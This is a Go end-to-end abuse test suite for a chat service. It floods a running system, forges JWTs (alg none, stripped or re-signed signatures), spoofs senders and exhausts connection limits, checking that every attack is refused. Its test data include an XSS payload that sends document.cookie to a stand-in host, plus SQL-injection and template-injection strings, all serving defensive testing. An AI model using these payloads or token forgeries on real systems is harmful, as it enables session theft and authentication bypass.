package e2e

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"

	"github.com/quickchat-go/quickchat/harness/chatclient"
	"github.com/quickchat-go/quickchat/harness/devstack"
	"github.com/quickchat-go/quickchat/pkg/token"
)

// Limits of the realtime service at its defaults (docs/protocol.md, Limits).
const (
	rtFrameRate  = 20
	rtFrameBurst = 50
	// rtFloodCloseAfter frames sent before their retry-after within 10 s close a
	// connection with 1008.
	rtFloodCloseAfter = 200
	rtMaxBodyBytes    = 4096
	// rtMaxFrameBytes is realtime's read limit: escaped body, other fields, and up to four
	// attachment references of 3072 bytes.
	rtMaxFrameBytes = 6*rtMaxBodyBytes + 8<<10 + 4*3072
	rtMaxConnsPerIP = 256
)

// abuseWorld is a running system with one room and the members the abuse tests use.
type abuseWorld struct {
	sys   *devstack.System
	api   *chatclient.API
	dir   string
	group chatclient.Group
	other chatclient.Group
	// alice sends normally on instance 1; bob watches on instance 2.
	alice, bob, mallory chatclient.Membership
	ownerAccess         string
	bobFrames           chan chatclient.Frame
	aliceConn, bobConn  *chatclient.Conn
}

func newAbuseWorld(t *testing.T) *abuseWorld {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "system")
	w := &abuseWorld{dir: dir, bobFrames: make(chan chatclient.Frame, 1024)}
	w.sys = startSystem(t, devstack.SystemConfig{Dir: dir, Realtimes: 2, Persisters: 1})
	w.api = chatclient.NewAPI(w.sys.GatewayURL)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	owner, err := w.api.Register(ctx, "abuse-owner@example.com", "owner password 1", "Owner")
	if err != nil {
		t.Fatal(err)
	}
	w.ownerAccess = owner.AccessToken
	if w.group, err = w.api.CreateGroup(ctx, owner.AccessToken, "Abused", "the passcode"); err != nil {
		t.Fatal(err)
	}
	if w.other, err = w.api.CreateGroup(ctx, owner.AccessToken, "Elsewhere", "other passcode"); err != nil {
		t.Fatal(err)
	}
	for _, m := range []struct {
		into *chatclient.Membership
		name string
	}{{&w.alice, "Alice"}, {&w.bob, "Bob"}, {&w.mallory, `<svg onload=alert(1)>'; DROP TABLE x;--`}} {
		if *m.into, err = w.api.Join(ctx, w.group.ID, m.name, "the passcode", ""); err != nil {
			t.Fatal(err)
		}
	}
	w.aliceConn = w.dialJoined(t, 0, w.alice, nil)
	w.bobConn = w.dialJoined(t, 1, w.bob, func(f chatclient.Frame) {
		if f.Type == "message" {
			w.bobFrames <- f
		}
	})
	return w
}

func (w *abuseWorld) dialJoined(t *testing.T, instance int, m chatclient.Membership, onFrame func(chatclient.Frame)) *chatclient.Conn {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	c, err := chatclient.Dial(ctx, w.sys.RealtimeURLs[instance], chatclient.DialOptions{OnFrame: onFrame})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.CloseNow() })
	if _, err := c.Join(ctx, w.group.ID, m.Token, nil); err != nil {
		t.Fatal(err)
	}
	return c
}

// roomStillWorks has Alice send a message and Bob receive it on the other instance.
func (w *abuseWorld) roomStillWorks(t *testing.T) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	body := fmt.Sprintf("still working at %d", time.Now().UnixNano())
	ack, err := w.aliceConn.Send(ctx, w.group.ID, "alive-"+body, body)
	if err != nil {
		t.Fatalf("the room stopped working: %v", err)
	}
	for {
		select {
		case f := <-w.bobFrames:
			if f.Message.ID == ack.ID {
				return
			}
		case <-ctx.Done():
			t.Fatalf("Bob never received %q", body)
		}
	}
}

// TestAbuseOfTheRunningSystem attacks a running system the way a hostile client can, and
// checks after each attack that the attacker got the documented answer and that the room
// kept working for everyone else.
func TestAbuseOfTheRunningSystem(t *testing.T) {
	w := newAbuseWorld(t)

	t.Run("a flood beyond the frame rate is refused, then closed with 1008, and stores only what was acked", func(t *testing.T) {
		const flood = 600
		var acks, limited, other atomic.Int64
		c := w.dialJoined(t, 0, w.mallory, func(f chatclient.Frame) {
			if !strings.HasPrefix(f.Ref, "a") {
				return
			}
			switch {
			case f.Type == "ack":
				acks.Add(1)
			case f.Type == "error" && f.Code == "rate_limited":
				limited.Add(1)
			default:
				other.Add(1)
			}
		})
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		start := time.Now()
		for i := range flood {
			if _, err := c.SendAsync(ctx, w.group.ID, fmt.Sprintf("flood-%d", i), fmt.Sprintf("flood %d", i)); err != nil {
				break // closed by the server while flooding
			}
		}
		// Sending far faster than told to wait: more than rtFloodCloseAfter frames early,
		// so the server stops answering each one and closes the connection.
		select {
		case <-c.Done():
		case <-ctx.Done():
			t.Fatalf("the flooding connection was not closed (%d acks, %d rate_limited)", acks.Load(), limited.Load())
		}
		elapsed := time.Since(start)
		allowed := int64(rtFrameBurst + rtFrameRate*elapsed.Seconds() + 2)
		t.Logf("%d sends in %v: %d acked, %d rate_limited, closed %d", flood, elapsed.Round(time.Millisecond), acks.Load(), limited.Load(), c.CloseStatus())
		if c.CloseStatus() != 1008 {
			t.Fatalf("the flooding connection was closed with %d, want 1008", c.CloseStatus())
		}
		// The close does not wait for answers still queued, so few or none may arrive.
		if acks.Load() > allowed || limited.Load() >= flood/2 || other.Load() != 0 {
			t.Fatalf("%d acked (at most %d allowed), %d rate_limited (want far fewer than one per refused frame), %d other answers",
				acks.Load(), allowed, limited.Load(), other.Load())
		}
		// The member is not shut out: a new connection is served.
		c2 := w.dialJoined(t, 0, w.mallory, nil)
		if err := c2.Ping(ctx); err != nil {
			t.Fatalf("a new connection of the flooding member was not served: %v", err)
		}
		w.roomStillWorks(t)
		// Refused frames left no trace: exactly the acknowledged floods are stored.
		abuseWaitFor(t, "the flood's acked messages to be stored", func() bool {
			return abuseCountBodies(t, w, "flood ") == int(acks.Load())
		})
	})

	t.Run("a body over the size limit is refused and the connection lives", func(t *testing.T) {
		c := w.dialJoined(t, 0, w.mallory, nil)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		_, err := c.Send(ctx, w.group.ID, "big", strings.Repeat("é", rtMaxBodyBytes/2+1))
		var fe *chatclient.FrameError
		if !errors.As(err, &fe) || fe.Code != "too_large" {
			t.Fatalf("a %d-byte body got %v, want too_large", rtMaxBodyBytes+2, err)
		}
		if _, err := c.Send(ctx, w.group.ID, "at-limit", strings.Repeat("é", rtMaxBodyBytes/2)); err != nil {
			t.Fatalf("a body of exactly %d bytes was refused: %v", rtMaxBodyBytes, err)
		}
	})

	t.Run("a frame over the read limit closes only that connection with 1009", func(t *testing.T) {
		c := w.dialJoined(t, 1, w.mallory, nil)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		if err := c.WriteRaw(ctx, []byte(`{"type":"ping","ref":"`+strings.Repeat("r", rtMaxFrameBytes)+`"}`)); err != nil {
			t.Fatal(err)
		}
		select {
		case <-c.Done():
		case <-ctx.Done():
			t.Fatal("the oversized frame did not close the connection")
		}
		if code := c.CloseStatus(); code != 1009 {
			t.Fatalf("close status %d, want 1009", code)
		}
		w.roomStillWorks(t)
	})

	t.Run("invalid UTF-8 and NUL bytes are bad frames and the connection lives", func(t *testing.T) {
		errs := make(chan chatclient.Frame, 8)
		c := w.dialJoined(t, 0, w.mallory, func(f chatclient.Frame) {
			if f.Type == "error" {
				errs <- f
			}
		})
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		for _, frame := range [][]byte{
			[]byte(`{"type":"send","ref":"u1","group_id":"` + w.group.ID + `","client_msg_id":"u1","body":"caf` + "\xe9" + `"}`),
			[]byte(`{"type":"send","ref":"u2","group_id":"` + w.group.ID + `","client_msg_id":"u2","body":"nul\u0000byte"}`),
			[]byte("\xff\xfe{\"type\":\"ping\"}"),
		} {
			if err := c.WriteRaw(ctx, frame); err != nil {
				t.Fatal(err)
			}
			select {
			case f := <-errs:
				if f.Code != "bad_frame" {
					t.Fatalf("%q got error %q, want bad_frame", frame, f.Code)
				}
			case <-ctx.Done():
				t.Fatalf("no error for %q", frame)
			}
		}
		if err := c.Ping(ctx); err != nil {
			t.Fatalf("the connection did not survive bad frames: %v", err)
		}
	})

	t.Run("hostile text travels and is stored verbatim, never interpreted", func(t *testing.T) {
		c := w.dialJoined(t, 0, w.mallory, nil)
		bodies := []string{
			`<script>fetch("https://evil.example/?c="+document.cookie)</script>`,
			`"><svg onload=alert(1)>`,
			`'; DELETE FROM messages; --`,
			`{{constructor.constructor('alert(1)')()}} ${7*7} %s%n`,
			"\u202eright-to-left\u202c \U0001F4A9 e\u0301",
			strings.Repeat("\U0001F600", rtMaxBodyBytes/4),
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		ids := map[string]string{}
		for i, body := range bodies {
			ack, err := c.Send(ctx, w.group.ID, fmt.Sprintf("hostile-%d", i), body)
			if err != nil {
				t.Fatalf("send %q: %v", body, err)
			}
			ids[ack.ID] = body
		}
		seen := 0
		for seen < len(bodies) {
			select {
			case f := <-w.bobFrames:
				want, ok := ids[f.Message.ID]
				if !ok {
					continue
				}
				seen++
				if f.Message.Body != want || f.Message.SenderName != w.mallory.Member.DisplayName {
					t.Fatalf("Bob got %q from %q, want %q from %q", f.Message.Body, f.Message.SenderName, want, w.mallory.Member.DisplayName)
				}
			case <-ctx.Done():
				t.Fatalf("Bob received %d of %d hostile messages", seen, len(bodies))
			}
		}
		abuseWaitFor(t, "the hostile messages in history", func() bool {
			stored := 0
			for _, m := range abuseHistory(t, w) {
				if want, ok := ids[m.ID]; ok {
					if m.Body != want || m.SenderName != w.mallory.Member.DisplayName {
						t.Fatalf("history has %q from %q, want %q", m.Body, m.SenderName, want)
					}
					stored++
				}
			}
			return stored == len(bodies)
		})
		// The SQL-looking body and name deleted nothing, and history is still served as
		// JSON that no browser will sniff into a page.
		req, err := http.NewRequest("GET", w.sys.GatewayURL+"/api/chats/"+w.group.ID, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+w.bob.Token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") || resp.Header.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.Contains(resp.Header.Get("Content-Security-Policy"), "default-src 'none'") {
			t.Fatalf("history served as %q with nosniff %q and CSP %q", ct, resp.Header.Get("X-Content-Type-Options"), resp.Header.Get("Content-Security-Policy"))
		}
	})

	t.Run("a send cannot choose its sender", func(t *testing.T) {
		c := w.dialJoined(t, 0, w.mallory, nil)
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		frame := fmt.Sprintf(`{"type":"send","ref":"spoof","group_id":%q,"client_msg_id":"spoof","body":"I am Alice",`+
			`"sender_id":%q,"sender_name":"Alice","message":{"sender_name":"Alice"}}`, w.group.ID, w.alice.Member.ID)
		if err := c.WriteRaw(ctx, []byte(frame)); err != nil {
			t.Fatal(err)
		}
		for {
			select {
			case f := <-w.bobFrames:
				if f.Message.ClientMsgID != "spoof" {
					continue
				}
				if f.Message.SenderID != w.mallory.Member.ID || f.Message.SenderName != w.mallory.Member.DisplayName {
					t.Fatalf("a spoofing send was delivered as %q (%s), want the sender's own %q (%s)",
						f.Message.SenderName, f.Message.SenderID, w.mallory.Member.DisplayName, w.mallory.Member.ID)
				}
				abuseWaitFor(t, "the spoofing message in history", func() bool {
					for _, m := range abuseHistory(t, w) {
						if m.ClientMsgID == "spoof" {
							if m.SenderID != w.mallory.Member.ID || m.SenderName != w.mallory.Member.DisplayName {
								t.Fatalf("stored as %q (%s)", m.SenderName, m.SenderID)
							}
							return true
						}
					}
					return false
				})
				return
			case <-ctx.Done():
				t.Fatal("the spoofing send was never delivered")
			}
		}
	})

	t.Run("thousands of joins with bad tokens are all refused and cost nothing", func(t *testing.T) {
		bad := abuseTokens(t, w)
		const attempts, workers = 2000, 40
		var next, joined atomic.Int64
		var mu sync.Mutex
		codes := map[string]int{}
		wrong := []string{}
		start := time.Now()
		var wg sync.WaitGroup
		for wk := range workers {
			wg.Go(func() {
				ip := net.IPv4(127, 0, 1, byte(10+wk))
				for {
					i := int(next.Add(1)) - 1
					if i >= attempts {
						return
					}
					tc := bad[i%len(bad)]
					ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
					c, err := chatclient.Dial(ctx, w.sys.RealtimeURLs[i%2], chatclient.DialOptions{LocalIP: ip})
					if err != nil {
						cancel()
						t.Errorf("dial %d: %v", i, err)
						return
					}
					_, err = c.Join(ctx, tc.group, tc.token, nil)
					_ = c.CloseNow()
					cancel()
					var fe *chatclient.FrameError
					mu.Lock()
					switch {
					case err == nil:
						joined.Add(1)
					case errors.As(err, &fe):
						codes[fe.Code]++
						if fe.Code != tc.want && len(wrong) < 5 {
							wrong = append(wrong, fmt.Sprintf("%s: %s, want %s", tc.name, fe.Code, tc.want))
						}
					default:
						codes["transport: "+err.Error()]++
					}
					mu.Unlock()
				}
			})
		}
		wg.Wait()
		t.Logf("%d refused joins in %v over %d connections at a time: %v", attempts, time.Since(start).Round(time.Millisecond), workers, codes)
		if joined.Load() != 0 || len(wrong) > 0 || codes["unauthorized"]+codes["forbidden"] != attempts {
			t.Fatalf("%d bad tokens joined; answers %v; wrong codes %q", joined.Load(), codes, wrong)
		}
		for _, rt := range w.sys.Realtime {
			ready := rt.OpsURL() + "/readyz"
			resp, err := http.Get(ready)
			if err != nil || resp.StatusCode != http.StatusOK {
				t.Fatalf("%s after the attack: %v %v", ready, resp, err)
			}
			resp.Body.Close()
		}
		w.roomStillWorks(t)
	})

	t.Run("one address gets at most the per-address connection limit", func(t *testing.T) {
		ip := net.IPv4(127, 0, 2, 1)
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		var conns []*chatclient.Conn
		defer func() {
			for _, c := range conns {
				_ = c.CloseNow()
			}
		}()
		for i := range rtMaxConnsPerIP {
			c, err := chatclient.Dial(ctx, w.sys.RealtimeURLs[0], chatclient.DialOptions{LocalIP: ip})
			if err != nil {
				t.Fatalf("connection %d of %d refused: %v", i+1, rtMaxConnsPerIP, err)
			}
			conns = append(conns, c)
		}
		if c, err := chatclient.Dial(ctx, w.sys.RealtimeURLs[0], chatclient.DialOptions{LocalIP: ip}); err == nil {
			_ = c.CloseNow()
			t.Fatalf("connection %d from one address was accepted", rtMaxConnsPerIP+1)
		} else if !strings.Contains(err.Error(), "429") {
			t.Fatalf("connection %d from one address: %v, want HTTP 429", rtMaxConnsPerIP+1, err)
		}
		// Another address is unaffected.
		c, err := chatclient.Dial(ctx, w.sys.RealtimeURLs[0], chatclient.DialOptions{LocalIP: net.IPv4(127, 0, 2, 2)})
		if err != nil {
			t.Fatalf("another address was refused: %v", err)
		}
		_ = c.CloseNow()
	})
}

// abuseToken is a token an attacker may present, the room it is presented for and the
// error the realtime service must answer.
type abuseToken struct {
	name, token, group, want string
}

func abuseTokens(t *testing.T, w *abuseWorld) []abuseToken {
	t.Helper()
	real := abuseSigner(t, w.dir)
	attacker, err := token.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	attackerSigner, err := token.NewSigner(attacker)
	if err != nil {
		t.Fatal(err)
	}
	claims := token.Claims{Subject: w.mallory.Member.ID, Kind: token.KindMember, GroupID: w.group.ID, Name: "Mallory"}
	expired, err := real.SignAt(claims, time.Now().Add(-time.Hour), 15*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	unknownKey, err := attackerSigner.Sign(claims, 15*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	parts := strings.Split(w.mallory.Token, ".")
	none := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`)) + "." + parts[1] + "."
	return []abuseToken{
		{"garbage", "not a token at all", w.group.ID, "unauthorized"},
		{"empty-looking", "..", w.group.ID, "unauthorized"},
		{"expired but genuine", expired, w.group.ID, "unauthorized"},
		{"signed by an unknown key", unknownKey, w.group.ID, "unauthorized"},
		{"signed by an attacker under the gateway's key id", abuseResign(t, w.mallory.Token, attacker), w.group.ID, "unauthorized"},
		{"alg none", none, w.group.ID, "unauthorized"},
		{"signature stripped", parts[0] + "." + parts[1] + ".", w.group.ID, "unauthorized"},
		{"payload swapped", parts[0] + "." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"x","knd":"member","grp":"`+w.group.ID+`"}`)) + "." + parts[2], w.group.ID, "unauthorized"},
		{"another room's member token", w.mallory.Token, w.other.ID, "forbidden"},
		{"an account's access token", w.ownerAccess, w.group.ID, "forbidden"},
	}
}

// abuseSigner reads the gateway's signing key from the system directory, to make tokens
// that are genuine but expired.
func abuseSigner(t *testing.T, dir string) *token.Signer {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, "signing-key.pem"))
	if err != nil {
		t.Fatal(err)
	}
	keys, err := token.ParsePEMKeys(data)
	if err != nil {
		t.Fatal(err)
	}
	s, err := token.NewSigner(keys...)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// abuseResign signs raw's claims with key but names the key id raw was signed with.
func abuseResign(t *testing.T, raw string, key any) string {
	t.Helper()
	msg, err := jws.ParseString(raw)
	if err != nil {
		t.Fatal(err)
	}
	kid := msg.Signatures()[0].ProtectedHeaders().KeyID()
	tok, err := jwt.ParseInsecure([]byte(raw))
	if err != nil {
		t.Fatal(err)
	}
	k, err := jwk.FromRaw(key)
	if err != nil {
		t.Fatal(err)
	}
	if err := k.Set(jwk.KeyIDKey, kid); err != nil {
		t.Fatal(err)
	}
	signed, err := jwt.Sign(tok, jwt.WithKey(jwa.ES256, k))
	if err != nil {
		t.Fatal(err)
	}
	return string(signed)
}

func abuseHistory(t *testing.T, w *abuseWorld) []chatclient.StoredMessage {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	all, err := w.api.AllHistory(ctx, w.group.ID, w.bob.Token)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range all {
		if !utf8.ValidString(m.Body) {
			t.Fatalf("history returned invalid UTF-8: %q", m.Body)
		}
	}
	return all
}

func abuseCountBodies(t *testing.T, w *abuseWorld, prefix string) int {
	t.Helper()
	n := 0
	for _, m := range abuseHistory(t, w) {
		if strings.HasPrefix(m.Body, prefix) {
			n++
		}
	}
	return n
}

// abuseWaitFor polls cond for up to a minute.
func abuseWaitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(200 * time.Millisecond)
	}
}
